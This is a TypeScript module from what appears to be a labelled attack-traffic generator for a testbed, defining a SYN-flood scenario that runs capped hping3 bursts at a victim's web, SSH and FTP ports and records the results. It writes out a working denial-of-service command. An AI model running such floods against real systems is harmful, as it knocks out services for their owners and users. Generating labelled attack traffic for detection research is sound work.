// SYN flood with hping3 from the scenario host's own address (no spoofing: the source labels the
// flows). Bursts at a few hundred to ~2,000 SYNs/s, modest enough for a 2-core testbed; hping3's
// default source port increments per packet, so every SYN is a new flow for the victim.
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { Budget, firstErrorLine, runTool } from "./bounded.ts";
import { intBetween, pickWeighted } from "./random.ts";

const MAX_PACKETS_PER_BURST = 30_000;

/** Why no hping3 scenario runs over IPv6. */
export const HPING3_NO_IPV6 = { unsupported: "hping3 has no IPv6 support (it resolves only IPv4 addresses: \"Unable to resolve\" an IPv6 one)" };

/** One hping3 burst of `count` packets at `rate`/s: the packets it sent and got answers to (from
 *  its statistics, on stderr; killed before them, sent is estimated from the time it ran) and the
 *  error it stopped with, if any. usleep overhead makes hping3 slower than its interval, so it gets
 *  twice the nominal time. */
export async function runHping3Burst(
  ctx: ScenarioContext, budget: Budget, argv: string[], count: number, rate: number, graceMs?: number,
): Promise<{ sent: number; answered: number; problem: string | null }> {
  const run = await runTool(ctx, budget, argv, { maxMs: (count / rate) * 2_000 + 3_000, ...(graceMs !== undefined ? { graceMs } : {}) });
  const stats = /(\d+) packets transmitted, (\d+) packets received/.exec(run.stderr);
  if (stats) return { sent: Number(stats[1]), answered: Number(stats[2]), problem: null };
  return { sent: Math.min(count, Math.round((run.elapsedMs / 1_000) * rate)), answered: 0, problem: run.killed ? null : firstErrorLine(run) };
}

async function runSynFlood(ctx: ScenarioContext): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const ports = [ctx.services.web.port, ctx.services.ssh.port, ctx.services.ftp.port];
  const maxBursts = intBetween(rng, 1, 4);
  let sent = 0;
  let answered = 0;
  const bursts: string[] = [];
  const problems: string[] = [];
  for (let i = 0; i < maxBursts && budget.allows(1_500); i++) {
    // Mostly the web server, as SYN floods usually are.
    const port = pickWeighted(rng, [[ports[0]!, 6], [ports[1]!, 1], [ports[2]!, 1]]);
    const rate = intBetween(rng, 400, 2_000);
    const intervalUs = Math.round(1e6 / rate);
    const seconds = Math.min(budget.remainingMs() / 1_000, intBetween(rng, 4, 15));
    const count = Math.max(1, Math.min(MAX_PACKETS_PER_BURST, Math.round(rate * seconds)));
    const argv = ["hping3", "-S", "-p", String(port), "-i", `u${intervalUs}`, "-c", String(count), "-q", ctx.victimIp];
    ctx.log(argv.join(" "));
    const burst = await runHping3Burst(ctx, budget, argv, count, rate);
    sent += burst.sent;
    answered += burst.answered;
    if (burst.problem !== null) problems.push(burst.problem);
    bursts.push(`${count}@${rate}/s→:${port}`);
    await budget.pause(intBetween(rng, 300, 2_000));
  }
  const notes = [`${bursts.length} bursts (${bursts.join(", ")}), ${answered} answered`];
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: sent, note: notes.join(", ") };
}

export const SYN_FLOOD_SCENARIOS: Scenario[] = [
  { id: "hping3-syn-flood", label: "DoS-SYNFlood", tool: "hping3", ipv6: HPING3_NO_IPV6, description: "hping3 -S SYN flood bursts, mostly to the web port", run: runSynFlood },
];
